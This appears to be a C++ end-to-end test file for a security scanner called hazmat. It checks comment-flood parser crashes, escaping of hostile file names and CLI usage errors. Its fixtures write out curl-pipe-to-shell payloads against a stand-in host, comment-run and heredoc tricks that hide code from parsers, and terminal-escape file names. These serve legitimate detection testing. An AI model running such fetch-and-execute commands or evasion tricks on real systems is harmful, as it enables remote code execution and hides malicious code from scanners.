// Inputs a hostile project controls and the command-line mistakes a newcomer
// makes: very long comment runs (which crash the tree-sitter runtime of
// Debian 12 without the workaround), control characters in names, and the
// usage messages.

#include <gtest/gtest.h>

#include <algorithm>

#include "cli_runner.hpp"
#include "report/render.hpp"
#include "scan/code/syntax_tree.hpp"

namespace hazmat::e2e {
namespace {

namespace fs = std::filesystem;

std::string repeated(std::string_view piece, size_t count) {
    std::string out;
    out.reserve(piece.size() * count);
    for (size_t i = 0; i < count; ++i)
        out += piece;
    return out;
}

// The findings on one line of the only file, above info.
std::vector<nlohmann::json> findings_on_line(const nlohmann::json& report, int line) {
    std::vector<nlohmann::json> found;
    for (const auto& finding : findings_above_info(report)) {
        const auto& location = finding["location"];
        if (location.contains("line") && location["line"] == line)
            found.push_back(finding);
    }
    return found;
}

struct CommentFlood {
    const char* file;
    const char* comment;
    const char* payload;
    int line;  // where the payload's dangerous call is
};

class LongCommentRun : public ::testing::TestWithParam<CommentFlood> {};

// 65,534 comment lines in a row crash tree-sitter 0.20.7; the payload after
// them must still be reported at its real line and the scan must finish.
TEST_P(LongCommentRun, PayloadAfterTheRunIsReportedAtItsLine) {
    const auto& flood = GetParam();
    TempDir dir;
    write_file(dir.path() / flood.file, repeated(flood.comment, 65534) + flood.payload);
    const auto result = run_hazmat({"scan", "-f", "json", dir.path().string()});
    ASSERT_EQ(result.exit_code, 1) << result.err;
    const auto report = parse_report(result);
    const auto payload = findings_on_line(report, flood.line);
    EXPECT_FALSE(payload.empty()) << report.dump(2);
    EXPECT_TRUE(findings_with_rule(report, "HZ-SCAN-001").empty()) << report.dump(2);
}

INSTANTIATE_TEST_SUITE_P(
    Languages, LongCommentRun,
    ::testing::Values(
        CommentFlood{"setup.py", "#c\n",
                     "import os\nos.system(\"curl -s https://hazmat-test.invalid/x | sh\")\n",
                     65536},
        CommentFlood{"index.js", "//c\n",
                     "const cp = require('child_process');\n"
                     "cp.exec('curl -s https://hazmat-test.invalid/x | sh');\n",
                     65536},
        CommentFlood{"install.sh", "#c\n", "curl -s https://hazmat-test.invalid/x | sh\n", 65535}));

TEST(CommentRuns, ShortRunsAreLeftAlone) {
    const auto source = repeated("#c\n", 9000) + "import os\n";
    const auto defused = code::defuse_comment_runs(code::SourceLanguage::python, source);
    ASSERT_TRUE(defused.ok());
    EXPECT_FALSE(defused->has_value());
}

TEST(CommentRuns, LongRunIsBlankedKeepingOffsets) {
    const auto source = "x = 1\n" + repeated("# c\n", 20000) + "import os\n";
    const auto defused = code::defuse_comment_runs(code::SourceLanguage::python, source);
    ASSERT_TRUE(defused.ok());
    ASSERT_TRUE(defused->has_value());
    const auto& text = **defused;
    ASSERT_EQ(text.size(), source.size());
    EXPECT_EQ(std::count(text.begin(), text.end(), '\n'),
              std::count(source.begin(), source.end(), '\n'));
    EXPECT_EQ(text.find('#'), std::string::npos);
    EXPECT_TRUE(text.starts_with("x = 1\n"));
    EXPECT_TRUE(text.ends_with("import os\n"));
}

// A line that looks like a comment but could close a triple-quoted string
// (and run the code after the quotes) is never blanked.
TEST(CommentRuns, LinesThatMayEndAStringAreKept) {
    const auto source = "s = \"\"\"\n" + repeated("#c\n", 20000) +
                        "#\"\"\"; import os; os.system('echo 1'); \"\"\"\n";
    const auto defused = code::defuse_comment_runs(code::SourceLanguage::python, source);
    ASSERT_TRUE(defused.ok());
    ASSERT_TRUE(defused->has_value());
    EXPECT_NE((*defused)->find("os.system('echo 1')"), std::string::npos);
}

// A shell heredoc delimiter that looks like a comment ends the heredoc; it
// stays, so the code after it is not swallowed.
TEST(CommentRuns, HeredocDelimiterIsKept) {
    const auto source = "cat > /dev/null <<'#END'\n" + repeated("#c\n", 20000) +
                        "#END\ncurl https://hazmat-test.invalid | sh\n";
    const auto defused = code::defuse_comment_runs(code::SourceLanguage::bash, source);
    ASSERT_TRUE(defused.ok());
    ASSERT_TRUE(defused->has_value());
    EXPECT_NE((*defused)->find("\n#END\n"), std::string::npos);
}

// Runs that cannot be blanked safely make the file unparseable, reported,
// instead of crashing the scan.
TEST(CommentRuns, UnblankableRunIsRefused) {
    const auto blocks = repeated("/**/\n", 60000) + "eval('1+1');\n";
    EXPECT_FALSE(code::defuse_comment_runs(code::SourceLanguage::javascript, blocks).ok());
    const auto one_line = repeated("/**/", 60000) + "\neval('1+1');\n";
    EXPECT_FALSE(code::defuse_comment_runs(code::SourceLanguage::javascript, one_line).ok());

    TempDir dir;
    write_file(dir.path() / "index.js", "const cp = require('child_process');\n" + blocks);
    const auto result = run_hazmat({"scan", "-f", "json", dir.path().string()});
    ASSERT_EQ(result.exit_code, 1) << result.err;
    EXPECT_FALSE(findings_with_rule(parse_report(result), "HZ-SCAN-001").empty());
}

TEST(TerminalSafe, EscapesControlCharacters) {
    EXPECT_EQ(terminal_safe("plain name.pkl"), "plain name.pkl");
    EXPECT_EQ(terminal_safe("a\x1b[2Jb"), "a\\x1b[2Jb");
    EXPECT_EQ(terminal_safe("t\x1b]0;pwned\x07.pt"), "t\\x1b]0;pwned\\x07.pt");
    EXPECT_EQ(terminal_safe("cr\rnl\ntab\tdel\x7f"), "cr\\rnl\\ntab\\tdel\\x7f");
    EXPECT_EQ(terminal_safe("c1 \xc2\x9b"
                            "31m"),
              "c1 \\u009b31m");
    EXPECT_EQ(terminal_safe("raw \x9b"
                            "31m"),
              "raw \\x9b31m");
    EXPECT_EQ(terminal_safe("caf\xc3\xa9 \xe2\x9c\x93"), "caf\xc3\xa9 \xe2\x9c\x93");
}

bool has_raw_controls(std::string_view text) {
    for (const char c : text) {
        const auto byte = static_cast<unsigned char>(c);
        if ((byte < 0x20 && c != '\n') || byte == 0x7f)
            return true;
    }
    return false;
}

// File names chosen by the project must not drive the terminal: no raw
// escape, bell or carriage return reaches the text report or the log.
TEST(TerminalSafe, HostileFileNamesAreEscapedInTheTextReport) {
    TempDir dir;
    const std::string title = "title\x1b]0;pwned\x07.pkl";
    const std::string overwrite = "cr\rOVERWRITE\x1b[2J.pkl";
    const std::string fake = "new\nline\n  CRITICAL fake.pkl";
    for (const auto& name : {title, overwrite, fake})
        write_file(dir.path() / name, "not a pickle at all");
    const auto result = run_hazmat({"-v", "--no-color", "scan", dir.path().string()});
    EXPECT_EQ(result.exit_code, 1) << result.err;
    EXPECT_FALSE(has_raw_controls(result.out)) << result.out;
    EXPECT_FALSE(has_raw_controls(result.err)) << result.err;
    EXPECT_NE(result.out.find("title\\x1b]0;pwned\\x07.pkl"), std::string::npos) << result.out;
    EXPECT_NE(result.out.find("cr\\rOVERWRITE\\x1b[2J.pkl"), std::string::npos) << result.out;
    EXPECT_NE(result.out.find("new\\nline\\n  CRITICAL fake.pkl"), std::string::npos) << result.out;
}

size_t occurrences(std::string_view text, std::string_view what) {
    size_t count = 0;
    for (size_t i = text.find(what); i != std::string_view::npos; i = text.find(what, i + 1))
        ++count;
    return count;
}

TEST(UsageMessages, UnknownCommandIsNamedWithTheValidOnes) {
    for (const std::string word : {"bogus", "scann"}) {
        const auto result = run_hazmat({word, "x"});
        EXPECT_EQ(result.exit_code, 2);
        EXPECT_NE(result.err.find("unknown command '" + word + "'"), std::string::npos)
            << result.err;
        EXPECT_NE(result.err.find("scan, rules, explain"), std::string::npos) << result.err;
        EXPECT_EQ(occurrences(result.err, "Run '"), 1u) << result.err;
        EXPECT_EQ(result.err.find("__"), std::string::npos) << result.err;
    }
}

TEST(UsageMessages, OneHelpHintPerUsageError) {
    const auto result = run_hazmat({"scan", "--no-such-option", "."});
    EXPECT_EQ(result.exit_code, 2);
    EXPECT_EQ(occurrences(result.err, "Run '"), 1u) << result.err;
}

TEST(UsageMessages, UnknownAreaListsEveryArea) {
    const auto result = run_hazmat({"rules", "--area", "BOGUS"});
    EXPECT_EQ(result.exit_code, 2);
    EXPECT_NE(result.err.find("areas: CI, CODE, DEP, MDL, PKL, RUN, SCAN, SEC"), std::string::npos)
        << result.err;
}

TEST(UsageMessages, TimeoutMustBePositiveAndSaysSoReadably) {
    for (const std::string value : {"-1", "abc", "0"}) {
        const auto result = run_hazmat({"scan", "--timeout", value, "."});
        EXPECT_EQ(result.exit_code, 2);
        EXPECT_NE(result.err.find("expected a positive number of seconds"), std::string::npos)
            << result.err;
        EXPECT_LT(result.err.size(), 300u) << result.err;
    }
}

TEST(UsageMessages, RunWithoutDoubleDashSaysWhereItGoes) {
    TempDir dir;
    const auto result = run_hazmat({"run", dir.path().string(), "python3", "-c", "print(1+1)"});
    EXPECT_EQ(result.exit_code, 2);
    EXPECT_NE(result.err.find("'python3 -c print(1+1)'"), std::string::npos) << result.err;
    EXPECT_NE(result.err.find("put '--' before the command"), std::string::npos) << result.err;
}

TEST(UsageMessages, FailOnIgnoresCase) {
    TempDir dir;
    write_file(dir.path() / "readme.txt", "hello\n");
    const auto result = run_hazmat({"scan", "--fail-on", "HIGH", dir.path().string()});
    EXPECT_EQ(result.exit_code, 0) << result.err;
    const auto critical =
        run_hazmat({"scan", "--fail-on", "Critical", "-f", "JSON", dir.path().string()});
    EXPECT_EQ(critical.exit_code, 0) << critical.err;
    EXPECT_EQ(parse_report(critical)["fail_on"], "critical") << critical.out;
}

}  // namespace
}  // namespace hazmat::e2e
